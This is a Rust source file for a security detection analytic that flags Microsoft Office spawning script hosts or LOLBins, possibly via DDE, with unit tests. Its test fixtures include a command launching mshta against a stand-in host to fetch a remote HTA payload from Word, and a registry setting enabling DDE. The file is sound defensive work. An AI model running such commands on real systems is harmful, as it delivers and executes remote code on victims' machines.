//! # IPC-DDE-001: Office starts a script host or LOLBin
//!
//! ## What it detects
//! An Office program in its own folder starts a script host, a LOLBin, or an untrusted program. With an indication of
//! DDE in the preceding ten minutes (an instruction in a text, a setting that allows it) it is critical.
//!
//! ## Why it matters
//! DDE, macros and exploits of Office all result in a program started by a document.
//!
//! ## Telemetry
//! Sysmon 1, Security 4688.
//!
//! ## False positives
//! Printing helpers and error reporting are excluded. Applications that users installed for themselves and open from a
//! mail (meeting clients, browsers): low. Add-ins that run scripts: allow by image.
//!
//! ## References
//! ATT&CK T1559.002, T1204.002, T1566.001; DET0504 (AN1393).

use std::time::Duration;

use backchannel_events::{ActivityKind, Confidence, Indicators, Mechanism, ProcessEvent, Reasons, Severity, Source};

use crate::context::com_server;
use crate::text::{clip, contains_any};
use crate::vocabulary::office;
use crate::{Analytic, Context, Evidence, Family, predicates};

pub const ANALYTIC: Analytic = Analytic {
    id: "IPC-DDE-001",
    title: "Office starts a script host or LOLBin",
    family: Family::DynamicDataExchange,
    techniques: &["T1559.002", "T1204.002", "T1566.001"],
    attack_analytics: &["AN1393"],
    severity: Severity::High,
    on: &[ActivityKind::ProcessStart],
    telemetry: &[Source::Sysmon, Source::Security],
    // An indication of DDE is considered for this long.
    window: Some(Duration::from_secs(600)),
    evaluate,
    ..Analytic::DEFAULTS
};

/// What a child of Office shows where nothing speaks of DDE.
const WITHOUT_DDE: &[&str] = &["T1559", "T1204.002"];

fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence> {
    let parent = context.parent();
    if !office::is_installed(parent) {
        return None;
    }
    let child = context.subject();
    let (host, lolbin) = (predicates::is_script_host(child), predicates::is_lolbin(child));
    let untrusted = predicates::is_untrusted(child);
    if !(host || lolbin || untrusted) || is_office_s_own(child.command_line) {
        return None;
    }
    let document = office::document(parent.command_line);
    let opened = document.map_or(String::new(), |document| format!(" while {document} was open"));
    // Applications that users install for themselves are commonly opened from mails and documents.
    if untrusted && !host && !lolbin && com_server::product_folder(child.image).is_some() {
        let text = format!(
            "{} started {}{opened}, a program that the user installed for themselves.",
            parent.name(),
            child.name()
        );
        return Some(
            Evidence::new(Severity::Low, Confidence::Low, text)
                .indicators(Indicators::UNEXPECTED_USE)
                .client(parent)
                .server(child)
                .channel(Mechanism::Unknown, "")
                .techniques(WITHOUT_DDE),
        );
    }
    let payload = office::has_payload(child.command_line)
        || contains_any(child.command_line, &["%temp%", r"\appdata\", r"\temp\", r"\users\public\"]);
    let trace =
        context.host.documents.traces.near(event.time, context.window()).find(|trace| trace.note.time <= event.time);
    let (severity, confidence) = match (trace, payload) {
        (Some(_), _) => (Severity::Critical, Confidence::High),
        (None, true) => (Severity::High, Confidence::High),
        (None, false) => (Severity::High, Confidence::Medium),
    };
    let how = if trace.is_some() { "DDE is likely" } else { "a macro, DDE or an exploit did it" };
    let text = format!(
        "{} started {}{opened}: {how}. Command line: {}",
        parent.name(),
        child.name(),
        clip(child.command_line, 200),
    );
    let mut evidence = Evidence::new(severity, confidence, text)
        .reasons(Reasons::NONE.and_if(predicates::is_unknown_binary(child) || payload, Reasons::UNKNOWN_BINARY))
        .indicators(Indicators::UNEXPECTED_USE)
        .client(parent)
        .server(child)
        .channel(if trace.is_some() { Mechanism::Dde } else { Mechanism::Unknown }, document.unwrap_or(""));
    if trace.is_none() {
        evidence = evidence.techniques(WITHOUT_DDE);
    }
    if let Some(trace) = trace {
        evidence = evidence.because(&trace.note, format!("a sign of DDE: {}", trace.what));
    }
    Some(evidence)
}

/// Commands that Office itself runs: printing and conversion helpers, repair.
fn is_office_s_own(line: &str) -> bool {
    contains_any(
        line,
        &[
            "splwow64",
            "ClickToRun",
            "OfficeC2R",
            r"\Office16\OLicenseHeartbeat",
            "PrintUIEntry",
            "printui.dll",
            "ndfapi.dll",
        ],
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;

    const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    const WORD_LINE: &str =
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\a\Downloads\invoice.docx""#;

    #[test]
    fn a_shell_under_word_fires_and_names_the_document() {
        let events = [start(0, r"C:\Windows\System32\cmd.exe", "cmd.exe /k calc").by(WORD, WORD_LINE)];
        let findings = check(&ANALYTIC, &events, Some((Severity::High, Confidence::Medium)));
        assert!(findings[0].text.contains("invoice.docx"));
    }

    #[test]
    fn a_command_that_downloads_has_higher_confidence() {
        let events =
            [start(0, r"C:\Windows\System32\mshta.exe", "mshta.exe http://a.example/x.hta").by(WORD, WORD_LINE)];
        let findings = check(&ANALYTIC, &events, Some((Severity::High, Confidence::High)));
        assert!(findings[0].reasons.contains(backchannel_events::Reason::UnknownBinary));
    }

    #[test]
    fn a_setting_that_allows_dde_before_it_makes_it_critical() {
        let setting = r"HKU\S-1-5-21-1\Software\Microsoft\Office\16.0\Word\Security\AllowDDE";
        let events = [
            registry_set(0, setting, "DWORD (0x00000002)"),
            start(120, r"C:\Windows\System32\cmd.exe", "cmd.exe /k calc").by(WORD, WORD_LINE),
        ];
        check(&ANALYTIC, &events, Some((Severity::Critical, Confidence::High)));
    }

    #[test]
    fn helpers_and_ordinary_programs_are_quiet() {
        let events = [
            start(0, r"C:\Windows\splwow64.exe", "splwow64.exe 12288").by(WORD, WORD_LINE),
            start(1, r"C:\Windows\System32\WerFault.exe", "WerFault.exe -u").by(WORD, WORD_LINE),
            start(2, r"C:\Program Files\Browser\browser.exe", "browser.exe https://a.example").by(WORD, WORD_LINE),
        ];
        check(&ANALYTIC, &events, None);
    }

    #[test]
    fn an_application_of_the_user_s_own_is_low() {
        let meeting = r"C:\Users\a\AppData\Roaming\Meeting\bin\Meeting.exe";
        let events = [start(0, meeting, "Meeting.exe --url=meeting://1").by(WORD, WORD_LINE)];
        check(&ANALYTIC, &events, Some((Severity::Low, Confidence::Low)));
    }

    #[test]
    fn an_office_name_in_another_folder_is_left_to_another_analytic() {
        let events = [start(0, r"C:\Windows\System32\cmd.exe", "cmd.exe").by(r"C:\Users\a\WINWORD.EXE", "WINWORD.EXE")];
        check(&ANALYTIC, &events, None);
    }
}
